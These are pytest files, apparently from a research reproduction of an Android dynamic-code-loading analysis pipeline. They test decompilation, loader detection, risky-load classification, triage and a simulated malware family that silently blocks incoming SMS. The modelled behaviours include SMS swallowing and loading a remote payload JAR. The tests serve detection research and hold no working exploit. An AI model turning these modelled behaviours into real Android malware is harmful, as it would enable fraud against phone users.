    def test_abort_outside_ordered_broadcast_raises(self):
        cls = aborting_receiver("com.b.app.Rogue")
        vm = make_vm([cls])
        from repro.android.bytecode import MethodRef

        with pytest.raises(VMException) as excinfo:
            vm.invoke(
                MethodRef("android.content.BroadcastReceiver", "abortBroadcast", 1),
                [VMObject("com.b.app.Rogue")],
            )
        assert excinfo.value.class_name == "java.lang.IllegalStateException"


class TestSwissCodeMonkeysBlocksSms:
    def test_loaded_malware_swallows_carrier_replies(self):
        """End to end: the loaded Swiss-code-monkeys service registers its
        blocker, and subsequent incoming SMS never reach the inbox."""
        payload = swiss_code_monkeys_dex(seed=9)
        service = payload.classes[0].name
        vm = make_vm([], package="com.host.app")
        vm.load_dex(payload)  # as if just loaded via DCL
        # host every URL the payload touches so onStart survives.
        from repro.corpus.behaviors import extract_url_constants

        for url in extract_url_constants(payload):
            vm.device.network.host_resource(url, b"\x00")
        vm.run_entry(service, "onStart", [VMObject(service)])
        record = vm.device.receive_sms(vm, "+CARRIER", "premium service activated")
        assert record.aborted
        assert record.aborted_by.endswith(".SmsBlocker")
        assert "premium service activated" not in " ".join(vm.device.provider_data["sms"])
