"""Tests for decompiler, smali IR, prefilter, rewriter, vulnerability."""

import pytest

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.android.manifest import WRITE_EXTERNAL_STORAGE
from repro.runtime.instrumentation import DexLoadEvent, NativeLoadEvent
from repro.static_analysis.decompiler import DecompilationError, Decompiler
from repro.static_analysis.prefilter import prefilter
from repro.static_analysis.rewriter import RepackagingError, ensure_external_write
from repro.static_analysis.vulnerability import (
    RiskyLoadCategory,
    classify_loads,
    classify_path,
    has_integrity_check,
)

from tests.helpers import (
    build_manifest,
    downloads_and_loads_app,
    local_loader_app,
    simple_payload_dex,
)


def _decompile(apk):
    return Decompiler().decompile(apk)


class TestDecompiler:
    def test_decompiles_classes(self):
        apk = downloads_and_loads_app()
        program = _decompile(apk)
        assert "com.example.demo.MainActivity" in program.class_names()
        assert program.manifest.package == "com.example.demo"

    def test_anti_decompilation_crashes_strict(self):
        apk = downloads_and_loads_app()
        apk.enable_anti_decompilation()
        with pytest.raises(DecompilationError):
            _decompile(apk)

    def test_non_strict_survives(self):
        apk = downloads_and_loads_app()
        apk.enable_anti_decompilation()
        program = Decompiler(strict=False).decompile(apk)
        assert program.class_names()

    def test_opaque_entries_listed(self):
        apk, _ = local_loader_app()
        program = _decompile(apk)
        assert "assets/plugin.jar" in program.opaque_entries

    def test_encrypted_asset_is_opaque_not_code(self):
        apk = Apk.build(
            build_manifest(),
            dex_files=[simple_payload_dex()],
            assets={"assets/enc.bin": simple_payload_dex().encrypt(b"k")},
        )
        program = _decompile(apk)
        assert len(program.dex_files) == 1
        assert "assets/enc.bin" in program.opaque_entries

    def test_smali_rendering(self):
        program = _decompile(downloads_and_loads_app())
        text = program.render_smali("com.example.demo.MainActivity")
        assert ".class public Lcom/example/demo/MainActivity;" in text
        assert ".super Landroid/app/Activity;" in text
        assert "dalvik.system.DexClassLoader.<init>/5" in text

    def test_identifiers(self):
        program = _decompile(downloads_and_loads_app())
        kinds = {kind for kind, _ in program.identifiers()}
        assert kinds == {"class", "method"}
        names = {name for _, name in program.identifiers()}
        assert "onCreate" in names and "<init>" not in names


class TestPrefilter:
    def test_detects_dex_dcl(self):
        result = prefilter(_decompile(downloads_and_loads_app()))
        assert result.has_dex_dcl and not result.has_native_dcl
        assert result.dex_call_site_classes == ["com.example.demo.MainActivity"]

    def test_detects_native_dcl(self):
        cls = class_builder("com.t.A", superclass="android.app.Activity")
        b = MethodBuilder("onCreate", "com.t.A", arity=1)
        b.call_void("java.lang.System", "loadLibrary", b.new_string("x"))
        b.ret_void()
        cls.add_method(b.build())
        apk = Apk.build(build_manifest("com.t"), dex_files=[DexFile(classes=[cls])])
        result = prefilter(_decompile(apk))
        assert result.has_native_dcl and not result.has_dex_dcl

    def test_no_dcl(self):
        cls = class_builder("com.t.A")
        b = MethodBuilder("m", "com.t.A", arity=1)
        b.call_void("android.util.Log", "d", b.new_string("t"), b.new_string("m"))
        b.ret_void()
        cls.add_method(b.build())
        apk = Apk.build(build_manifest("com.t"), dex_files=[DexFile(classes=[cls])])
        assert not prefilter(_decompile(apk)).has_any_dcl

    def test_existence_not_reachability(self):
        # Dead code containing a loader still passes the prefilter (paper:
        # "We do not verify the reachability of DCL-related code").
        cls = class_builder("com.t.A", superclass="android.app.Activity")
        dead = MethodBuilder("neverCalled", "com.t.A", arity=1)
        null = dead.new_null()
        dead.new_instance_of(
            "dalvik.system.PathClassLoader", dead.new_string("/data/x.jar"), null
        )
        dead.ret_void()
        cls.add_method(dead.build())
        apk = Apk.build(build_manifest("com.t"), dex_files=[DexFile(classes=[cls])])
        assert prefilter(_decompile(apk)).has_dex_dcl


class TestRewriter:
    def test_adds_permission_when_missing(self):
        apk = Apk.build(
            build_manifest(permissions=set()), dex_files=[simple_payload_dex()]
        )
        rewritten, changed = ensure_external_write(apk)
        assert changed
        assert rewritten.manifest.has_permission(WRITE_EXTERNAL_STORAGE)
        assert not apk.manifest.has_permission(WRITE_EXTERNAL_STORAGE)  # original intact

    def test_noop_when_present(self):
        apk = Apk.build(build_manifest(), dex_files=[simple_payload_dex()])
        result, changed = ensure_external_write(apk)
        assert result is apk and not changed

    def test_anti_repackaging_fails(self):
        apk = Apk.build(
            build_manifest(permissions=set()), dex_files=[simple_payload_dex()]
        )
        apk.enable_anti_repackaging()
        with pytest.raises(RepackagingError):
            ensure_external_write(apk)

    def test_anti_repackaging_with_permission_is_fine(self):
        # No rewrite needed -> no repack -> no failure.
        apk = Apk.build(build_manifest(), dex_files=[simple_payload_dex()])
        apk.enable_anti_repackaging()
        result, changed = ensure_external_write(apk)
        assert not changed


def _dex_event(paths, package="com.victim.app"):
    return DexLoadEvent(
        dex_paths=tuple(paths),
        odex_dir=None,
        loader_kind="DexClassLoader",
        call_site=None,
        stack=(),
        app_package=package,
        timestamp_ms=0,
    )


def _native_event(path, package="com.victim.app"):
    return NativeLoadEvent(
        lib_path=path,
        api="load",
        call_site=None,
        stack=(),
        app_package=package,
        timestamp_ms=0,
    )


class TestVulnerability:
    def test_external_storage_pre_kitkat(self):
        manifest = build_manifest("com.victim.app", min_sdk=14)
        category = classify_path("/mnt/sdcard/im_sdk/jar/x.jar", "com.victim.app", manifest)
        assert category is RiskyLoadCategory.EXTERNAL_STORAGE

    def test_external_storage_post_kitkat_not_counted(self):
        manifest = build_manifest("com.victim.app", min_sdk=19)
        assert classify_path("/mnt/sdcard/x.jar", "com.victim.app", manifest) is None

    def test_other_app_internal(self):
        manifest = build_manifest("com.victim.app")
        category = classify_path(
            "/data/data/com.adobe.air/lib/libCore.so", "com.victim.app", manifest
        )
        assert category is RiskyLoadCategory.OTHER_APP_INTERNAL

    def test_own_internal_is_safe(self):
        manifest = build_manifest("com.victim.app")
        assert classify_path(
            "/data/data/com.victim.app/cache/p.jar", "com.victim.app", manifest
        ) is None

    def test_classify_loads_full(self):
        manifest = build_manifest("com.victim.app", min_sdk=14)
        findings = classify_loads(
            "com.victim.app",
            manifest,
            dex_events=[_dex_event(["/mnt/sdcard/a.jar", "/data/data/com.victim.app/b.jar"])],
            native_events=[_native_event("/data/data/com.adobe.air/lib/libCore.so")],
        )
        categories = {(f.code_kind, f.category) for f in findings}
        assert categories == {
            ("dex", RiskyLoadCategory.EXTERNAL_STORAGE),
            ("native", RiskyLoadCategory.OTHER_APP_INTERNAL),
        }
        native = [f for f in findings if f.code_kind == "native"][0]
        assert native.other_app == "com.adobe.air"

    def test_duplicates_collapsed(self):
        manifest = build_manifest("com.victim.app", min_sdk=14)
        findings = classify_loads(
            "com.victim.app",
            manifest,
            dex_events=[_dex_event(["/mnt/sdcard/a.jar"]), _dex_event(["/mnt/sdcard/a.jar"])],
        )
        assert len(findings) == 1

    def test_integrity_check_suppresses(self):
        cls = class_builder("com.victim.app.Loader")
        b = MethodBuilder("verify", "com.victim.app.Loader", arity=1)
        b.call_static("java.security.MessageDigest", "getInstance", b.new_string("SHA-256"))
        b.ret_void()
        cls.add_method(b.build())
        apk = Apk.build(
            build_manifest("com.victim.app", min_sdk=14),
            dex_files=[DexFile(classes=[cls])],
        )
        program = Decompiler().decompile(apk)
        assert has_integrity_check(program)
        findings = classify_loads(
            "com.victim.app",
            apk.manifest,
            dex_events=[_dex_event(["/mnt/sdcard/a.jar"])],
            program=program,
        )
        assert findings == []
