"""The tier-0 triage subsystem: fingerprints, model, gate, service wiring."""

import json
import os
import subprocess
import sys

import pytest

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import CorpusGenerator, generate_corpus
from repro.observe import MetricsRegistry
from repro.service.daemon import AnalysisService, ServiceConfig
from repro.service.spec import JobSpec, SpecError
from repro.store import VerdictStore
from repro.triage import (
    N_FEATURES,
    TriageError,
    TriageGate,
    TriageModel,
    fingerprint_session,
    train_model,
    vectorize,
)
from repro.triage.harness import evaluate_triage, train_triage_model
from repro.triage.tier import full_pipeline_label, load_harvest

TRAIN_APPS = 60
TRAIN_SEED = 7
EVAL_APPS = 40
EVAL_SEED = 99


def pipeline_config(**overrides):
    defaults = dict(train_samples_per_family=2, run_replays=False)
    defaults.update(overrides)
    return DyDroidConfig(**defaults)


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    trained, _ = train_triage_model(TRAIN_APPS, seed=TRAIN_SEED)
    path = tmp_path_factory.mktemp("triage") / "model.json"
    trained.save(str(path))
    return trained, str(path)


@pytest.fixture(scope="module")
def eval_corpus():
    return generate_corpus(EVAL_APPS, seed=EVAL_SEED)


def run_corpus(corpus, config, store_path=None):
    """Measure a corpus, returning (analyses, registry, store_counts)."""
    registry = MetricsRegistry()
    pipeline = DyDroid(config, metrics=registry, verdict_store=store_path)
    try:
        analyses = [pipeline.analyze_app(record) for record in corpus]
    finally:
        pipeline.close()
    counts = {}
    if store_path:
        store = VerdictStore(store_path, config)
        counts = store.counts()
        store.close()
    return analyses, registry, counts


@pytest.fixture(scope="module")
def baseline_run(eval_corpus):
    """Triage off, full analyzers: the ground truth for the gated run."""
    return run_corpus(eval_corpus, pipeline_config())


@pytest.fixture(scope="module")
def gated_run(eval_corpus, model, tmp_path_factory):
    _, path = model
    store = tmp_path_factory.mktemp("gated") / "verdicts.jsonl"
    config = pipeline_config(triage_model=path)
    return run_corpus(eval_corpus, config, store_path=str(store)) + (str(store),)


# -- fingerprints -----------------------------------------------------------------


def first_payload_session(corpus, config=None):
    pipeline = DyDroid(config or pipeline_config())
    try:
        for record in corpus:
            analysis = pipeline.analyze_app(record)
            if analysis.dynamic is not None and analysis.dynamic.intercepted_any:
                return analysis.package, analysis.dynamic
    finally:
        pipeline.close()
    raise AssertionError("corpus has no payload app")


class TestFingerprint:
    def test_identical_across_fresh_pipelines(self, eval_corpus):
        pkg1, dyn1 = first_payload_session(eval_corpus)
        pkg2, dyn2 = first_payload_session(eval_corpus)
        fp1 = fingerprint_session(pkg1, dyn1)
        fp2 = fingerprint_session(pkg2, dyn2)
        assert fp1.digest == fp2.digest
        # bit-identical, not approximately equal
        assert fp1.vector == fp2.vector
        assert fp1.features == fp2.features

    def test_shard_invariant(self, eval_corpus):
        """Analyzing the app alone vs. amid a shard changes nothing."""
        pkg, dyn = first_payload_session(eval_corpus)
        index = next(r.blueprint.index for r in eval_corpus if r.package == pkg)
        generator = CorpusGenerator(seed=EVAL_SEED)
        solo = generator.records_at(EVAL_APPS, [index])
        _, solo_dyn = first_payload_session(solo)
        assert fingerprint_session(pkg, solo_dyn).digest == \
            fingerprint_session(pkg, dyn).digest

    def test_trace_interleaving_invariant(self, eval_corpus):
        """Reversing event/payload/edge order leaves the fingerprint alone."""
        pkg, dyn = first_payload_session(eval_corpus)
        before = fingerprint_session(pkg, dyn)
        for seq in (
            dyn.dcl.dex_events,
            dyn.dcl.native_events,
            dyn.dcl.rejected_events,
            dyn.intercepted,
            dyn.tracker.edges,
        ):
            if isinstance(seq, list):
                seq.reverse()
        after = fingerprint_session(pkg, dyn)
        assert after.digest == before.digest
        assert after.vector == before.vector

    def test_vectorize_order_invariant(self):
        features = {"a": 2.0, "b": 1.0, "loader:x": 3.0, "dex_path:/p/q.jar": 1.0}
        shuffled = dict(reversed(list(features.items())))
        assert vectorize(features) == vectorize(shuffled)

    def test_restart_deterministic_under_hash_randomization(self, tmp_path):
        """Same digest from two processes with different PYTHONHASHSEED."""
        script = tmp_path / "fp.py"
        script.write_text(
            "from repro.core.config import DyDroidConfig\n"
            "from repro.core.pipeline import DyDroid\n"
            "from repro.corpus.generator import generate_corpus\n"
            "from repro.triage import fingerprint_session\n"
            "pipeline = DyDroid(DyDroidConfig(\n"
            "    train_samples_per_family=2, run_replays=False))\n"
            "for record in generate_corpus(12, seed={}):\n"
            "    a = pipeline.analyze_app(record)\n"
            "    if a.dynamic is not None and a.dynamic.intercepted_any:\n"
            "        print(fingerprint_session(a.package, a.dynamic).digest)\n"
            "        break\n"
            "pipeline.close()\n".format(EVAL_SEED)
        )
        digests = set()
        for hashseed in ("0", "424242"):
            env = dict(os.environ, PYTHONHASHSEED=hashseed)
            env["PYTHONPATH"] = os.pathsep.join(
                p for p in ("src", env.get("PYTHONPATH", "")) if p
            )
            out = subprocess.run(
                [sys.executable, str(script)],
                capture_output=True, text=True, env=env,
                cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                check=True,
            )
            digests.add(out.stdout.strip())
        assert len(digests) == 1

    def test_vector_width_fixed(self, eval_corpus):
        pkg, dyn = first_payload_session(eval_corpus)
        assert len(fingerprint_session(pkg, dyn).vector) == N_FEATURES


# -- corpus split -----------------------------------------------------------------


class TestSplit:
    def test_partition(self):
        train, test = CorpusGenerator(seed=7).split(100)
        assert sorted(train + test) == list(range(100))
        assert not set(train) & set(test)
        assert train and test

    def test_deterministic(self):
        assert CorpusGenerator(seed=7).split(50) == CorpusGenerator(seed=7).split(50)

    def test_seed_sensitivity(self):
        base = CorpusGenerator(seed=7).split(100)
        assert CorpusGenerator(seed=8).split(100) != base
        assert CorpusGenerator(seed=7).split(100, split_seed=1) != base

    def test_ratio(self):
        train, test = CorpusGenerator(seed=7).split(100, ratio=0.8)
        assert len(train) == 80 and len(test) == 20

    def test_extremes_keep_both_halves_nonempty(self):
        train, test = CorpusGenerator(seed=7).split(2, ratio=0.01)
        assert len(train) == 1 and len(test) == 1

    def test_errors(self):
        with pytest.raises(ValueError):
            CorpusGenerator(seed=7).split(1)
        with pytest.raises(ValueError):
            CorpusGenerator(seed=7).split(10, ratio=0.0)
        with pytest.raises(ValueError):
            CorpusGenerator(seed=7).split(10, ratio=1.0)


# -- model ------------------------------------------------------------------------


def toy_samples():
    hazard = {"loader:evil": 2.0, "payload_remote": 1.0}
    benign = {"loader:fine": 1.0}
    return [(vectorize(hazard), 1), (vectorize(benign), 0)] * 4


class TestModel:
    def test_training_deterministic(self):
        a = train_model(toy_samples(), seed=3)
        b = train_model(toy_samples(), seed=3)
        assert a.weights == b.weights and a.bias == b.bias

    def test_needs_both_classes(self):
        with pytest.raises(TriageError):
            train_model([(vectorize({"a": 1.0}), 0)] * 3)

    def test_json_round_trip_exact(self, tmp_path):
        model = train_model(toy_samples())
        path = tmp_path / "m.json"
        model.save(str(path))
        loaded = TriageModel.load(str(path))
        # repr-round-trippable floats: bit-identical weights and scores
        assert loaded.weights == model.weights
        assert loaded.bias == model.bias
        vector = toy_samples()[0][0]
        assert loaded.predict_proba(vector) == model.predict_proba(vector)
        assert loaded.config_fingerprint == model.config_fingerprint

    def test_version_mismatch_fails_loudly(self, tmp_path):
        model = train_model(toy_samples())
        doc = model.to_dict()
        doc["model_version"] = 99
        path = tmp_path / "stale.json"
        path.write_text(json.dumps(doc))
        with pytest.raises(TriageError):
            TriageModel.load(str(path))

    def test_missing_file(self, tmp_path):
        with pytest.raises(TriageError):
            TriageModel.load(str(tmp_path / "absent.json"))

    def test_trained_model_separates_toys(self):
        model = train_model(toy_samples())
        hazard_vec, benign_vec = toy_samples()[0][0], toy_samples()[1][0]
        assert model.predict_proba(hazard_vec) > 0.5
        assert model.predict_proba(benign_vec) < 0.5


# -- the runtime gate -------------------------------------------------------------


def hazard_packages(analyses):
    return {a.package for a in analyses if full_pipeline_label(a)}


class TestGate:
    def test_gate_counters_and_provenance(self, gated_run):
        analyses, registry, _, _ = gated_run
        gated = registry.counter_value("triage.gated")
        hit = registry.counter_value("triage.hit")
        assert gated > 0 and hit > 0
        triaged = [a for a in analyses if a.verdict_source == "triage"]
        assert len(triaged) == hit
        for analysis in triaged:
            assert any(p.verdict_source == "triage" for p in analysis.payloads)

    def test_short_circuits_at_most_half_of_store_misses(self, gated_run):
        _, registry, _, _ = gated_run
        gated = registry.counter_value("triage.gated")
        fallthrough = registry.counter_value("triage.fallthrough")
        # acceptance: full analyzers on <= 50% of store-miss payload apps
        assert fallthrough <= gated / 2

    def test_fewer_analyzer_invocations_than_baseline(self, gated_run, baseline_run):
        _, gated_registry, _, _ = gated_run
        _, base_registry, _ = baseline_run
        for name in (
            "analyzer.droidnative.invocations",
            "analyzer.flowdroid.invocations",
        ):
            assert gated_registry.counter_value(name) <= base_registry.counter_value(name)
        assert gated_registry.counter_value("triage.analyzers_skipped") > 0

    def test_no_missed_hazards_vs_baseline(self, gated_run, baseline_run):
        gated_analyses, _, _, _ = gated_run
        base_analyses, _, _ = baseline_run
        flagged = {
            a.package
            for a in gated_analyses
            if full_pipeline_label(a)
            or (
                a.verdict_source == "triage"
                and any(p.detection is not None for p in a.payloads)
            )
        }
        assert hazard_packages(base_analyses) <= flagged

    def test_store_never_poisoned_by_triage(self, gated_run, eval_corpus, tmp_path):
        """Only tier-1 verdicts are published: the gated run's store is a
        strict subset of a triage-off run's store over the same corpus."""
        gated_analyses, _, gated_counts, _ = gated_run
        baseline_store = tmp_path / "baseline-verdicts.jsonl"
        _, _, base_counts = run_corpus(
            eval_corpus, pipeline_config(), store_path=str(baseline_store)
        )
        assert sum(gated_counts.values()) < sum(base_counts.values())
        for kind, count in gated_counts.items():
            assert count <= base_counts.get(kind, 0)

    def test_warm_store_overrides_triage(self, gated_run, eval_corpus, model):
        """Stored tier-1 verdicts win over the gate on a second pass."""
        _, path = model
        _, _, _, store_path = gated_run
        config = pipeline_config(triage_model=path)
        # warm the store's remaining gaps with a triage-off pass first
        run_corpus(eval_corpus, pipeline_config(), store_path=store_path)
        analyses, registry, _ = run_corpus(eval_corpus, config, store_path=store_path)
        assert registry.counter_value("triage.override") > 0
        assert registry.counter_value("triage.hit") == 0
        assert all(a.verdict_source == "full" for a in analyses)

    def test_harvest_round_trip(self, model, eval_corpus, tmp_path):
        trained, _ = model
        harvest = tmp_path / "m.json.harvest.jsonl"
        gate = TriageGate(trained, threshold=0.999999, harvest_path=str(harvest))
        pkg, dyn = first_payload_session(eval_corpus)
        decision = gate.assess(pkg, dyn)
        assert not decision.decided  # threshold is unreachable
        gate.harvest(decision, 1)
        samples = load_harvest(str(harvest))
        assert len(samples) == 1
        vector, label = samples[0]
        assert label == 1 and vector == decision.fingerprint.vector

    def test_eval_meets_recall_floor(self, model):
        trained, _ = model
        evaluation = evaluate_triage(trained, TRAIN_APPS, seed=TRAIN_SEED)
        assert evaluation.recall >= 0.95
        assert evaluation.n_sessions > 0
        rendered = evaluation.render()
        assert "Hazard recall" in rendered

    def test_threshold_validation(self, model):
        trained, _ = model
        with pytest.raises(TriageError):
            TriageGate(trained, threshold=0.4)
        with pytest.raises(TriageError):
            TriageGate(trained, threshold=1.5)


# -- report provenance ------------------------------------------------------------


class TestReportProvenance:
    def test_payload_verdict_round_trip(self, gated_run):
        analyses, _, _, _ = gated_run
        triaged = next(a for a in analyses if a.verdict_source == "triage")
        revived = type(triaged).from_dict(triaged.to_dict())
        assert revived.verdict_source == "triage"
        assert [p.verdict_source for p in revived.payloads] == [
            p.verdict_source for p in triaged.payloads
        ]

    def test_legacy_dict_defaults_to_full(self, baseline_run):
        analyses, _, _ = baseline_run
        doc = analyses[0].to_dict()
        doc.pop("verdict_source")
        for payload in doc.get("payloads", []):
            payload.pop("verdict_source", None)
        revived = type(analyses[0]).from_dict(doc)
        assert revived.verdict_source == "full"

    def test_triage_table(self, gated_run, eval_corpus, model):
        from repro.core.report import MeasurementReport

        analyses, _, _, _ = gated_run
        report = MeasurementReport(apps=analyses)
        table = report.triage_table()
        assert table["triaged_apps"] > 0
        assert table["triaged_apps"] + table["full_apps"] == table["payload_apps"]
        assert "TRIAGE" in report.render_triage_table()
        assert "triage_provenance" in report.to_dict()


# -- service wiring ---------------------------------------------------------------


class TestJobSpecTriage:
    def test_key_back_compat(self):
        """Triage-less keys are byte-identical to the pre-field layout."""
        import hashlib

        spec = JobSpec(kind="corpus", seed=7, n_apps=10, index=3)
        legacy = hashlib.sha256(
            json.dumps(
                {"kind": "corpus", "seed": 7, "n_apps": 10, "index": 3},
                sort_keys=True,
            ).encode("utf-8")
        ).hexdigest()[:16]
        assert spec.key() == legacy

    def test_triage_alters_key(self):
        plain = JobSpec(kind="corpus", seed=7, n_apps=10, index=3)
        on = JobSpec(kind="corpus", seed=7, n_apps=10, index=3, triage="on")
        tuned = JobSpec(
            kind="corpus", seed=7, n_apps=10, index=3,
            triage="on", triage_threshold=0.95,
        )
        assert len({plain.key(), on.key(), tuned.key()}) == 3

    def test_to_dict_omits_unset(self):
        assert "triage" not in JobSpec(
            kind="corpus", seed=7, n_apps=10, index=3
        ).to_dict()
        body = JobSpec(
            kind="corpus", seed=7, n_apps=10, index=3,
            triage="on", triage_threshold=0.95,
        ).to_dict()
        assert body["triage"] == "on" and body["triage_threshold"] == 0.95

    def test_from_payload_validation(self):
        base = {"kind": "corpus", "seed": 7, "n_apps": 10, "index": 3}
        spec = JobSpec.from_payload(dict(base, triage="off"))
        assert spec.triage == "off"
        with pytest.raises(SpecError):
            JobSpec.from_payload(dict(base, triage="maybe"))
        with pytest.raises(SpecError):
            JobSpec.from_payload(dict(base, triage_threshold=0.9))
        with pytest.raises(SpecError):
            JobSpec.from_payload(dict(base, triage="on", triage_threshold=0.3))
        with pytest.raises(SpecError):
            JobSpec.from_payload(dict(base, triage="on", triage_threshold="x"))


class TestServiceTriage:
    def test_triage_on_requires_daemon_model(self):
        service = AnalysisService(ServiceConfig(workers=0))
        service.start()
        try:
            code, body, _ = service.submit(
                {"kind": "corpus", "seed": 7, "n_apps": 10, "index": 3, "triage": "on"}
            )
            assert code == 400
            assert "triage" in body["error"]
        finally:
            service.drain(timeout=10.0)

    def test_stats_exposes_triage_block(self):
        service = AnalysisService(ServiceConfig(workers=0))
        service.start()
        try:
            _, stats, _ = service.stats()
            assert stats["triage"]["model"] is None
            assert "summary" in stats["triage"]
        finally:
            service.drain(timeout=10.0)

    def test_gated_daemon_stamps_verdict_source(self, model):
        _, path = model
        service = AnalysisService(
            ServiceConfig(
                workers=1,
                pipeline=pipeline_config(triage_model=path),
            )
        )
        service.start()
        try:
            submitted = []
            for index in range(6):
                code, body, _ = service.submit(
                    {"kind": "corpus", "seed": EVAL_SEED,
                     "n_apps": EVAL_APPS, "index": index}
                )
                assert code in (200, 202)
                submitted.append(body["job_id"])
            import time as time_module

            deadline = time_module.time() + 120
            while time_module.time() < deadline:
                counts = service.jobs.counts()
                if not counts["queued"] and not counts["running"]:
                    break
                time_module.sleep(0.1)
            sources = {
                service.jobs.get(job_id).verdict_source for job_id in submitted
            }
            assert "triage" in sources
            _, stats, _ = service.stats()
            assert stats["triage"]["summary"]["hit"] > 0
            job = service.jobs.get(submitted[0])
            assert job.to_dict()["verdict_source"] in ("triage", "full", "")
        finally:
            service.drain(timeout=60.0)
