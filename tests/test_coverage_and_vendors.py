"""Tests for fuzzing method coverage and packer-vendor attribution."""

import pytest

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.core.report import MeasurementReport
from repro.corpus.generator import CorpusGenerator, generate_corpus
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.static_analysis.decompiler import Decompiler
from repro.static_analysis.obfuscation.detector import (
    PACKER_VENDOR_NAMESPACES,
    analyze_obfuscation,
    identify_packer_vendor,
)

from tests.helpers import downloads_and_loads_app, simple_payload_dex

PAYLOAD_URL = "http://cdn.sdk-demo.com/payload.jar"


class TestMethodCoverage:
    def test_fully_exercised_single_method_app(self):
        apk = downloads_and_loads_app()
        report = AppExecutionEngine(
            EngineOptions(remote_resources={PAYLOAD_URL: simple_payload_dex().to_bytes()})
        ).run(apk)
        # the app has exactly one method (onCreate) and it ran.
        assert report.methods_total == 1
        assert report.methods_executed == 1
        assert report.method_coverage == 1.0

    def test_dead_code_lowers_coverage(self):
        generator = CorpusGenerator(seed=61)
        blueprints = generator.sample_blueprints(300)
        target = next(
            b for b in blueprints
            if b.has_dex_dcl_code and not b.dex_dcl_reachable
            and not b.crashy and not b.anti_repackaging and not b.no_activity
            and not b.anti_decompilation
        )
        record = generator.build_record(target)
        report = AppExecutionEngine(
            EngineOptions(remote_resources=record.remote_resources)
        ).run(record.apk)
        # filler classes and the dead legacyPluginPath method never run.
        assert 0.0 < report.method_coverage < 1.0

    def test_coverage_zero_when_not_exercised(self):
        apk = downloads_and_loads_app()
        manifest = apk.manifest
        manifest.components = []
        apk.put_manifest(manifest)
        report = AppExecutionEngine(EngineOptions()).run(apk)
        assert report.methods_executed == 0
        assert report.method_coverage == 0.0

    def test_ui_trigger_needs_budget_for_coverage(self):
        generator = CorpusGenerator(seed=62)
        blueprints = generator.sample_blueprints(400)
        target = next(
            b for b in blueprints if b.dcl_trigger == "ui" and b.dex_dcl_reachable
        )
        record = generator.build_record(target)
        lifecycle_only = AppExecutionEngine(
            EngineOptions(remote_resources=record.remote_resources, monkey_budget=0)
        ).run(record.apk)
        fuzzed = AppExecutionEngine(
            EngineOptions(remote_resources=record.remote_resources, monkey_budget=25)
        ).run(record.apk)
        assert fuzzed.methods_executed > lifecycle_only.methods_executed


class TestPackerVendorAttribution:
    def _packed_record(self, seed=63):
        generator = CorpusGenerator(seed=seed)
        blueprints = generator.sample_blueprints(600)
        packed = next(b for b in blueprints if b.is_packed)
        return generator.build_record(packed)

    def test_vendor_identified(self):
        record = self._packed_record()
        program = Decompiler().decompile(record.apk)
        vendor = identify_packer_vendor(program)
        assert vendor in set(PACKER_VENDOR_NAMESPACES.values())

    def test_profile_carries_vendor(self):
        record = self._packed_record()
        program = Decompiler().decompile(record.apk)
        profile = analyze_obfuscation(record.apk, program)
        assert profile.dex_encryption
        assert profile.packer_vendor is not None

    def test_unpacked_app_has_no_vendor(self):
        apk = downloads_and_loads_app()
        profile = analyze_obfuscation(apk, Decompiler().decompile(apk))
        assert profile.packer_vendor is None

    def test_report_vendor_breakdown(self):
        corpus = generate_corpus(700, seed=64)
        dydroid = DyDroid(DyDroidConfig(train_samples_per_family=2, run_replays=False))
        report = dydroid.measure(corpus)
        vendors = report.packer_vendors()
        packed_count = report.obfuscation_table()["DEX encryption"]
        assert sum(vendors.values()) == packed_count
        assert all(v in set(PACKER_VENDOR_NAMESPACES.values()) for v in vendors)
