"""Tests for corpus persistence, report JSON export, VirusTotal baseline."""

import json

import pytest

from repro.baselines.virustotal import VirusTotalScanner
from repro.cli import main
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus
from repro.corpus.storage import CorpusFormatError, load_corpus, save_corpus
from repro.static_analysis.malware.droidnative import DroidNative
from repro.static_analysis.malware.families import (
    SWISS_CODE_MONKEYS,
    chathook_ptrace_native,
    swiss_code_monkeys_dex,
    training_corpus,
)


class TestCorpusStorage:
    def test_round_trip(self, tmp_path):
        records = generate_corpus(40, seed=13)
        save_corpus(records, tmp_path / "market")
        restored = load_corpus(tmp_path / "market")
        assert len(restored) == len(records)
        for original, loaded in zip(records, restored):
            assert loaded.apk.sha256() == original.apk.sha256()
            assert loaded.metadata == original.metadata
            assert loaded.blueprint == original.blueprint
            assert loaded.remote_resources == original.remote_resources
            assert [c.sha256() for c in loaded.companions] == [
                c.sha256() for c in original.companions
            ]

    def test_companions_persisted(self, tmp_path):
        from repro.corpus.generator import CorpusGenerator

        generator = CorpusGenerator(seed=13)
        blueprints = generator.sample_blueprints(400)
        vuln = next(b for b in blueprints if b.vuln_kind == "native-other-app")
        records = [generator.build_record(vuln)]
        save_corpus(records, tmp_path / "m")
        restored = load_corpus(tmp_path / "m")
        assert restored[0].companions

    def test_measuring_restored_corpus_matches(self, tmp_path):
        records = generate_corpus(60, seed=14)
        save_corpus(records, tmp_path / "m")
        restored = load_corpus(tmp_path / "m")
        config = DyDroidConfig(train_samples_per_family=2, run_replays=False)
        original_report = DyDroid(config).measure(records)
        restored_report = DyDroid(config).measure(restored)
        assert original_report.dynamic_summary() == restored_report.dynamic_summary()
        assert original_report.obfuscation_table() == restored_report.obfuscation_table()

    def test_missing_index(self, tmp_path):
        with pytest.raises(CorpusFormatError):
            load_corpus(tmp_path)

    def test_bad_version(self, tmp_path):
        (tmp_path / "market.json").write_text('{"version": 99, "apps": []}')
        with pytest.raises(CorpusFormatError):
            load_corpus(tmp_path)

    def test_corrupt_index(self, tmp_path):
        (tmp_path / "market.json").write_text('{"version": 1}')
        with pytest.raises(CorpusFormatError):
            load_corpus(tmp_path)


class TestReportJson:
    def test_to_dict_keys(self):
        corpus = generate_corpus(80, seed=15)
        report = DyDroid(DyDroidConfig(train_samples_per_family=2, run_replays=False)).measure(corpus)
        data = report.to_dict()
        for key in (
            "table2_dynamic_summary",
            "table3_popularity",
            "table4_entity",
            "table5_remote_fetch",
            "table6_obfuscation",
            "fig3_dex_encryption_by_category",
            "table7_malware",
